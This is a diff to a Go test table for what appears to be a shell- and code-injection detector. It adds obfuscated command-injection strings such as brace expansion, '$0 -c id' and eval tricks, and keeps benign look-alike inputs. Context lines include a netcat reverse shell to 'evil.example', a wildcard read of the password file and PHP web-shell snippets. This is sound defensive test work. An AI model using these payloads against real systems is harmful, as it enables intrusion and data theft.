@@ -47,7 +47,8 @@ var checkCases = []struct {
 		"x | nc evil.example 4444 -e /bin/sh", "x;w'h'o'am'i", "x;wh$@oami", `x;who\ami`, "x;/???/?at /???/p??swd",
 		"127.0.0.1\nid", "1;ping 10.0.0.1", "127.0.0.1`id`", "x=`whoami`", "see `curl -L http://x.example` now",
 		"x;{id,}", "x;{curl,evil.example}", "x;wh``oami", "x;wh$()oami", "a;$0 -c id", "x;exec id", "x;eval id",
-		"127.0.0.1|sh", "127.0.0.1\r\nid",
+		"127.0.0.1|sh", "127.0.0.1\r\nid", "x\n{id,}", "x\n{curl,evil.example}", ";${0} -c id", ";${0##*/} -c id", ";$0<<<id", ";echo id|$0",
+		";eval 'id'", `;eval "id"`,
 	}, []string{
 		"Gifts & more", "Salt & pepper & more", "Name | Date | Time", "Work hard; sleep 8 hours a night", "Name|ID|Who",
 		"Notes; I'd say yes", "Ask; don't wait", "Rock | Paper | Scissors", "it's 10; sleep tight", "see /api/v1/?page=2; ok",
@@ -65,7 +66,7 @@ var checkCases = []struct {
 		"curl/8.5.0", "python-requests/2.31.0", "The parameter 5 is&|.", "url=/?usr=subject;-",
 		"a;{x,y}", "see; {id, name} fields", "set; {ls, dir} are commands", "Run it; eval results later",
 		"Cost: $0 shipping", "It was $0; free", "line one\r\nid card attached",
-		"Subtotal: $12; $0 shipping", "Fee waived | $0", "Items: 3\n$0 due today", "fields:\n{id,title}", "query {\n{id,name}\n}",
+		"Subtotal: $12; $0 shipping", "Fee waived | $0", "Items: 3\n$0 due today", "fields:\n{id,title}", "query {\n{id,name}\n}", "#!/bin/sh\nexec java -jar /app/app.jar",
 	}, false},
 	{KindCodeInjection, []string{
 		"<?php system($_GET['c']); ?>", "$_GET['x']", "system('id')", "eval(base64_decode('ZWNobyAx'))",
